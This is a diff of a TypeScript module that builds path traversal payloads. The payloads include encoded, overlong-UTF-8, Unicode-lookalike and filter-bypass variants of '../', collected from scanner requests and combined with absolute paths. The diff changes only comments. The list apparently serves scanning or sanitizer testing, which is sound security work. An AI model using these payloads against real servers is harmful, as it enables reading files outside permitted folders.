@@ -1,4 +1,4 @@
-/** Ways to write a path that leads out of a folder, collected from what scanners send. */
+/** Path traversal payloads, collected from requests of scanners. */
 
 const ups = [
   "../",
@@ -15,18 +15,18 @@ const ups = [
   "..%252f",
   "..%255c",
   "%25252e%25252e%25252f",
-  // UTF-8 that is longer than it may be, and other encodings of old servers.
+  // Overlong UTF-8 and other legacy encodings.
   "..%c0%af",
   "%c0%ae%c0%ae%c0%af",
   "..%c1%9c",
   "%e0%80%ae%e0%80%ae%e0%80%af",
   "%u002e%u002e%u2215",
-  // Characters that look like dots and slashes, or become them.
+  // Unicode characters that normalize to dots and slashes.
   "%ef%bc%8e%ef%bc%8e%ef%bc%8f",
   "..%e2%88%95",
   "..%ef%b9%a8",
   "\xef\xbc\x8e\xef\xbc\x8e/",
-  // What is left when a careless filter has taken its part out.
+  // Payloads that become valid after a naive filter.
   "....//",
   "..././",
   "....\\\\",
@@ -57,7 +57,7 @@ const absolutes = (path: string) => [
   `%00${path}`,
 ];
 
-/** Each once, for these paths from the root of the machine. */
+/** All payloads for these absolute paths, without duplicates. */
 export function traversals(paths: readonly string[]): string[] {
   const [first = "", ...others] = paths;
   const climbs = ups.flatMap((up) =>
